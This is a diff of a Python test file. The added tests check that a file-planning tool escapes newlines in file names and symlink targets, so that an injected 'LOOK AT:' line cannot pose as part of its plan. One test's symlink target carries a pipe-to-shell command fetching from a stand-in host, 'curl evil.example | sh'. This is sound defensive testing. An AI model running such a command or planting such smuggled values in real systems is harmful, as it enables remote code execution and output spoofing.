@@ -451,7 +451,7 @@ def test_what_another_tool_has_shared_already_is_not_copied_onto_itself(shop, tm
     assert (found.obstacles, found.moves) == ([], [])
 
 
-@pytest.mark.parametrize("name", [b"caf\xe9.db", b"a\x1b.db", b"caf\xe9.log"])
+@pytest.mark.parametrize("name", [b"caf\xe9.db", b"a\x1b.db", b"caf\xe9.log", b"a\nLOOK AT: b.log"])
 def test_a_name_that_no_message_can_carry_is_in_the_way(shop, name):
     path = os.path.join(os.fsencode(shop.code), name)
     connection = sqlite3.connect(path)
@@ -460,6 +460,13 @@ def test_a_name_that_no_message_can_carry_is_in_the_way(shop, name):
     connection.close()
     (said,) = plan(shop(), ROOT, set()).obstacles
     assert said.startswith("Names with control characters") and f"rename {os.fsdecode(path)}" in said
+
+
+def test_a_link_cannot_pass_for_a_line_of_the_plan(shop):
+    (shop.code / "uploads").mkdir()
+    (shop.code / "uploads/a").symlink_to("/nowhere\nLOOK AT: curl evil.example | sh")
+    (told,) = [text for text in decide(shop(user=4711)).attention if "lead out" in text]
+    assert "\n" not in told and r"/nowhere\x0aLOOK AT: curl" in told
 
 
 def test_uploads_may_have_any_name(shop):
